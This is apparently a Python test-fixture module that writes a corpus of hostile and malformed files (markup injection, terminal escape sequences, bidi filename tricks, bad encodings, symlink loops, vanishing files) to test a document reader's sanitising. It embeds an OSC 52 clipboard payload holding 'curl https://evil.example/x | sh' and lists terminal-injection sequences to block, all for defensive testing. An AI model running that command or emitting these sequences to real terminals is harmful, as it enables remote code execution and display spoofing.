"""A corpus of hostile and broken input, written by the tests themselves.

:func:`build` writes every case of the "hostile input" issue under a folder
and returns the problem each broken file must produce, ``{path: reason}``,
exactly as the engine words it (``Problem.path`` / ``Problem.reason``).
Everything the tests assert about content is a constant here, so a test
reads as "this raw sequence must be shown as that placeholder".

Cases (file -> what must happen):

* ``markup.txt``, ``markup-title.html``: text, a title line and an HTML
  ``<title>`` that look like Rich/Textual markup: loaded, shown literally.
* ``escapes.txt``: ANSI colours, OSC 52 (clipboard write) / OSC 0 (title) /
  OSC 8 (hyperlink), BEL, BS, DEL, C1 controls (CSI, NEL, OSC, ST), bidi
  overrides, a lone CR, NUL (past the binary sniffing window): loaded, each
  control replaced one for one (:data:`SHOWN`), offsets unchanged.
* ``bidi.md``: a heading with a right-to-left override (the classic
  "invoice‮gnp.exe" trick).
* ``latin1.txt``: invalid UTF-8 -> loaded as Windows-1252, with a warning.
* ``binary.txt`` (a PNG), ``empty.txt``, ``blank.md`` (white space only),
  ``[@click=app.quit].txt`` (empty, with a markup-looking name): reported.
* ``long-line.txt``: one 1 MB line. ``large.txt``: ~5 MB. ``huge.txt``: one
  100 MB file, only with ``big=True``.
* ``fifo.txt`` (a named pipe: unreadable as a file, even for root),
  ``dangling.txt`` (broken symlink), ``cycle-a.txt`` <-> ``cycle-b.txt``
  (file symlink loop), ``loop/back`` -> the root (folder symlink loop).
* ``folder.txt/``: a folder named like a document: walked, not reported.
* ``deep/l01/.../l60/bottom.txt``: 60 nested folders.
* a file whose name holds ESC and BEL, one whose name is not UTF-8.
* ``vanishing.txt`` / ``changing.txt``: deleted / rewritten between listing
  and reading -- only when a test calls :func:`vanish_after_listing`.
* ``manifest.toml``: malformed TOML -> reported with its line, ignored.
* ``.kb/broken.toml``: a malformed user knowledge base (line and reason);
  ``.kb/markup.toml``: a valid one whose entity name and description look
  like markup and hold an ESC. (Hidden folder: not part of the corpus.)
"""

from __future__ import annotations

import base64
import os
import random
from collections.abc import Callable
from pathlib import Path

import pytest

# -- what documents contain, and what the reader must show instead ------------------------

OSC52_PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh  # hostile clipboard").decode("ascii")
OSC52 = f"\x1b]52;c;{OSC52_PAYLOAD}\x07"

MARKUP_TITLE = "[bold]Markup title[/] [link=https://evil.example/]link[/link] [@click=app.quit]quit[/]"
MARKUP_BODY = (
    "Kim Jong Un [bold]met[/bold] officials [/x] in Pyongyang [red]today[/red].\n\n"
    "Comrade Zebulon [@click=app.quit]waved[/] from [link=https://evil.example/]the balcony[/link]. [/]\n"
)
HTML_TITLE = "[bold]HTML title[/] [/x] [@click=app.quit]"
HTML_AUTHOR = "[i]Mallory[/i]"

ESCAPES_TITLE_RAW = "\x1b[31mRED ALERT\x1b[0m title\x07"
ESCAPES_TITLE_SHOWN = "␛[31mRED ALERT␛[0m title␇"

#: (raw text in a document, what the loader makes of it) -- one character for one.
SHOWN: tuple[tuple[str, str], ...] = (
    ("ANSI \x1b[31mRED ALERT\x1b[0m and \x1b[1;5mblink\x1b[0m.", "ANSI ␛[31mRED ALERT␛[0m and ␛[1;5mblink␛[0m."),
    (f"OSC 52 {OSC52} clipboard.", f"OSC 52 ␛]52;c;{OSC52_PAYLOAD}␇ clipboard."),
    ("OSC 0 \x1b]0;PWNED TITLE\x1b\\ window title.", "OSC 0 ␛]0;PWNED TITLE␛\\ window title."),
    ("OSC 8 \x1b]8;;https://evil.example/\x1b\\hyperlink\x1b]8;;\x1b\\.",
     "OSC 8 ␛]8;;https://evil.example/␛\\hyperlink␛]8;;␛\\."),
    ("BEL ding\x07dong.", "BEL ding␇dong."),
    ("BS abc\x08\x08\x08XYZ.", "BS abc␈␈␈XYZ."),
    ("DEL a\x7fb.", "DEL a␡b."),
    ("C1 \x9b31mC1 RED\x9b0m, NEL\x85, OSC \x9d0;T\x9c.", "C1 \ufffd31mC1 RED\ufffd0m, NEL\ufffd, OSC \ufffd0;T\ufffd."),
    ("Bidi \u202eexe.txt\u202c, \u2066iso\u2069, \u200fmark\u200e.", "Bidi ¤exe.txt¤, ¤iso¤, ¤mark¤."),
    ("VT FF \x0b\x0c SUB \x1a.", "VT FF ␋␌ SUB ␚."),
    # A name right next to controls: the side panel's context for it holds them.
    ("Next to a name: Pyongyang\x1b[5m\x07\x9b1m\u202e!", "Next to a name: Pyongyang␛[5m␇\ufffd1m¤!"),
)
CR_RAW, CR_SHOWN = "over\rwrite", "over\nwrite"  # a lone CR is a line break, never a carriage return
NUL_RAW, NUL_SHOWN = "NUL a\x00b.", "NUL a␀b."

#: Sequences from documents that must never reach the terminal (tmux test).
DOCUMENT_SEQUENCES: tuple[bytes, ...] = (
    OSC52.encode(),
    b"\x1b]52;c;" + OSC52_PAYLOAD.encode(),
    b"\x1b[31mRED ALERT",
    b"\x1b[1;5mblink",
    b"\x1b]0;PWNED TITLE",
    b"\x1b]8;;https://evil.example/",
    b"ding\x07dong",
    b"\x08\x08\x08XYZ",
    "\x9b31m".encode(),  # C1 CSI as UTF-8
    b"\xc2\x9b",
    b"\xc2\x9d",
    "\u202eexe.txt".encode(),
    "\u202e".encode(),
)

BIDI_HEADING_RAW = "Invoice \u202egnp.exe\u202c"
BIDI_HEADING_SHOWN = "Invoice ¤gnp.exe¤"

LATIN1_BYTES = b"Caf\xe9 society in Pyongyang: na\xefve \x81 bytes, \x93quoted\x94.\n"
LATIN1_SHOWN = "Café society in Pyongyang: naïve \ufffd bytes, “quoted”."

ESC_NAME = "name-\x1b[7m-\x07.txt"  # a file name holding ESC and BEL
ESC_NAME_SHOWN = "name-␛[7m-␇.txt"
BAD_NAME = b"bad-\xff-name.txt"  # not UTF-8; Python sees "bad-\udcff-name.txt"
BAD_NAME_ID = os.fsdecode(BAD_NAME)
BAD_NAME_SHOWN = "bad-\ufffd-name.txt"
MARKUP_NAME = "[@click=app.quit].txt"

DEEP_LEVELS = 60
DEEP_ID = "deep/" + "/".join(f"l{n:02d}" for n in range(1, DEEP_LEVELS + 1)) + "/bottom.txt"

LONG_LINE_CHARS = 1_000_000
LARGE_BYTES = 5_000_000
HUGE_BYTES = 100_000_000

VANISHING = "vanishing.txt"
CHANGING = "changing.txt"
CHANGED_TEXT = "Changed after listing: Kim Jong Un now appears here.\n"

KB_BROKEN = ".kb/broken.toml"
KB_MARKUP = ".kb/markup.toml"
KB_ENTITY_ID = "comrade-zebulon"
KB_ENTITY_NAME = "[bold]Comrade[/] Zebulon [@click=app.quit]"
KB_ENTITY_DESCRIPTION_SHOWN = "[red]Fictional[/red] test entity [/x] with an escape ␛[31m."

#: Loaded documents that must be there whatever else failed (ids).
LOADED = (
    "markup.txt", "markup-title.html", "escapes.txt", "bidi.md", "latin1.txt", "long-line.txt", "large.txt",
    "folder.txt/inside.txt", "loop/inside.txt", DEEP_ID, ESC_NAME, BAD_NAME_ID, CHANGING,
)

#: Problems reported as warnings (the rest are errors).
WARNINGS = frozenset({"empty.txt", "blank.md", MARKUP_NAME, "loop/back", "latin1.txt"})


def build(root: Path, *, big: bool = False) -> dict[str, str]:
    """Write the hostile corpus under ``root``; return ``{problem path: reason}``.

    The result holds every problem a load of ``root`` can report: the
    ``vanishing.txt`` one only when the test calls :func:`vanish_after_listing`,
    the ``.kb/broken.toml`` one (keyed by its absolute path) only when that
    file is given as the user knowledge base.
    """
    root.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}

    def write(rel: str, data: str | bytes) -> Path:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            data = data.encode("utf-8")
        path.write_bytes(data)
        return path

    # Markup-looking text, in a title line, an HTML <title> and a meta author.
    write("markup.txt", MARKUP_TITLE + "\n\n" + MARKUP_BODY)
    write(
        "markup-title.html",
        "<!doctype html><html><head>"
        f"<title>{HTML_TITLE}</title><meta name=\"author\" content=\"{HTML_AUTHOR}\"></head><body>"
        "<p>[red]Kim Jong Un[/red] visited [b]Pyongyang[/b] [/x].</p>"
        "<p>Raw escape in HTML: \x1b[31mRED ALERT\x1b[0m and entity &#27;[32mgreen&#27;[0m.</p>"
        "</body></html>\n",
    )

    # Terminal control sequences of every kind. The NUL goes past the loader's
    # 8 KB binary sniff: a NUL near the top makes a file "binary", by design.
    lines = [ESCAPES_TITLE_RAW, ""]
    for raw, _ in SHOWN:
        lines += [raw, ""]
    lines += [CR_RAW, "", "Kim Jong Un arrived in Pyongyang after the escapes.", ""]
    filler = "Plain filler so that the NUL below lies past the binary sniffing window. " * 120
    lines += [filler, "", NUL_RAW, "", "Kim Jong Un again, after the NUL.", ""]
    write("escapes.txt", "\n".join(lines))

    write("bidi.md", f"# {BIDI_HEADING_RAW}\n\nBody with \u2067isolate\u2069 and Kim Jong Un in Pyongyang.\n")

    # Broken encodings and non-text.
    write("latin1.txt", LATIN1_BYTES)
    expected["latin1.txt"] = "not valid UTF-8; decoded as Windows-1252"
    rng = random.Random(20240117)
    write("binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(4096)))
    expected["binary.txt"] = "binary file, not text"
    write("empty.txt", b"")
    expected["empty.txt"] = "empty file"
    write("blank.md", " \n\t\n\n")
    expected["blank.md"] = "empty file (white space only)"
    write(MARKUP_NAME, b"")
    expected[MARKUP_NAME] = "empty file"

    # Size: one 1 MB line, a ~5 MB file, and (big) one 100 MB file.
    write("long-line.txt", _long_line(rng, LONG_LINE_CHARS))
    write("large.txt", _large_text(rng, LARGE_BYTES))
    if big:
        _write_huge(root / "huge.txt", HUGE_BYTES)

    # Unreadable things, links and loops.
    if hasattr(os, "mkfifo"):
        os.mkfifo(root / "fifo.txt")
        expected["fifo.txt"] = "not a regular file"
    (root / "dangling.txt").symlink_to(root / "gone-for-good.txt")
    expected["dangling.txt"] = "broken symbolic link"
    (root / "cycle-a.txt").symlink_to(root / "cycle-b.txt")
    (root / "cycle-b.txt").symlink_to(root / "cycle-a.txt")
    expected["cycle-a.txt"] = expected["cycle-b.txt"] = "too many levels of symbolic links"
    write("loop/inside.txt", "Inside the looping folder.\n")
    (root / "loop" / "back").symlink_to(root, target_is_directory=True)
    expected["loop/back"] = "symbolic link loop (back to '.'); not followed"
    write("folder.txt/inside.txt", "A folder named like a document holds this one.\n")
    write(DEEP_ID, "Sixty folders down, Kim Jong Un is still found.\n")

    # File names that are themselves hostile.
    write(ESC_NAME, "A plain document whose file name holds escapes.\n\nKim Jong Un.\n")
    fd = os.open(os.fsencode(root) + b"/" + BAD_NAME, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    with os.fdopen(fd, "wb") as handle:
        handle.write(b"A document whose file name is not UTF-8 names Kim Jong Un.\n")

    # Files that go or change while loading (see vanish_after_listing).
    write(VANISHING, "Here when listed, gone when read.\n")
    expected[VANISHING] = "no such file (removed while loading?)"
    write(CHANGING, "Old version.\n")

    # A malformed manifest: reported with its line, ignored; the documents still load.
    write("manifest.toml", '[[document]]\nfile = "markup.txt"\ntitle = "[bold]Manifest title[/]\nauthor = "x"\n')
    expected["manifest.toml"] = "line 3: Illegal character '\\n' (column 33); manifest ignored"

    # User knowledge bases (hidden folder: never part of the corpus).
    write(KB_BROKEN, '[[entity]]\nid = "broken"\nname = "[bold]Broken\ntype = "person"\n')
    expected[str(root / KB_BROKEN)] = "line 3: invalid TOML: Illegal character '\\n' (column 21)"
    write(
        KB_MARKUP,
        "[[entity]]\n"
        f'id = "{KB_ENTITY_ID}"\n'
        f'name = "{KB_ENTITY_NAME}"\n'
        'type = "person"\n'
        'aliases = ["Comrade Zebulon"]\n'
        'description = "[red]Fictional[/red] test entity [/x] with an escape \\u001b[31m."\n',
    )
    return expected


def corpus_problems(expected: dict[str, str], *, vanished: bool = False) -> dict[str, str]:
    """The problems a plain load of the corpus reports (no user KB given)."""
    return {
        path: reason for path, reason in expected.items()
        if not path.startswith("/") and (vanished or path != VANISHING)
    }


def vanish_after_listing(monkeypatch: pytest.MonkeyPatch, root: Path) -> Callable[[], bool]:
    """Delete ``vanishing.txt`` and rewrite ``changing.txt`` right after ``root`` is listed.

    The corpus walk lists folders with ``os.scandir``; the files go or change
    the moment that listing of ``root`` is closed, so the loader has them in
    its plan and then finds them gone or different. Returns a function that
    says whether it happened. Works whatever process reads the files later.
    """
    real_scandir = os.scandir
    done: list[bool] = []

    def after_listing() -> None:
        if done:
            return
        done.append(True)
        (root / VANISHING).unlink()
        (root / CHANGING).write_text(CHANGED_TEXT, encoding="utf-8")

    class Listing:
        def __init__(self, inner, is_root: bool) -> None:
            self._inner, self._is_root = inner, is_root

        def __iter__(self):
            return iter(self._inner)

        def __next__(self):
            return next(self._inner)

        def __enter__(self):
            return self

        def __exit__(self, *exc: object) -> None:
            self.close()

        def close(self) -> None:
            self._inner.close()
            if self._is_root:
                after_listing()

    def scandir(path=None):
        inner = real_scandir(path) if path is not None else real_scandir()
        try:
            is_root = path is not None and os.path.samefile(path, root)
        except (OSError, TypeError, ValueError):
            is_root = False
        return Listing(inner, is_root)

    monkeypatch.setattr(os, "scandir", scandir)
    return lambda: bool(done)


# -- big texts ------------------------------------------------------------------------------

_WORDS = ("the report said that officials in the capital met again on tuesday while rain fell over "
          "fields and roads near the river crossing").split()


def _long_line(rng: random.Random, chars: int) -> str:
    """One line of ``chars`` characters (no line break at all), names at both ends and in the middle."""
    head = "Kim Jong Un opens a line that never ends: "
    tail = " and Pyongyang closes it."
    words: list[str] = []
    size = len(head) + len(tail)
    while size <= chars:
        word = rng.choice(_WORDS)
        if len(words) == 60_000:
            word = "Kim Jong Un"
        words.append(word)
        size += len(word) + 1
    body = " ".join(words)
    return (head + body)[: chars - len(tail)] + tail


def _large_text(rng: random.Random, size: int) -> str:
    out: list[str] = []
    total = 0
    n = 0
    while total < size:
        para = " ".join(rng.choice(_WORDS) for _ in range(120)).capitalize() + "."
        if n % 50 == 0:
            para += " Kim Jong Un visited Pyongyang."
        out.append(para)
        total += len(para) + 2
        n += 1
    return "\n\n".join(out) + "\n"


def _write_huge(path: Path, size: int) -> None:
    """One ``size``-byte file written in 1 MB blocks (never the whole text in memory here)."""
    rng = random.Random(7)
    block = _large_text(rng, 1_000_000).encode("ascii")
    with path.open("wb") as handle:
        written = 0
        while written < size:
            chunk = block[: size - written]
            handle.write(chunk)
            written += len(chunk)
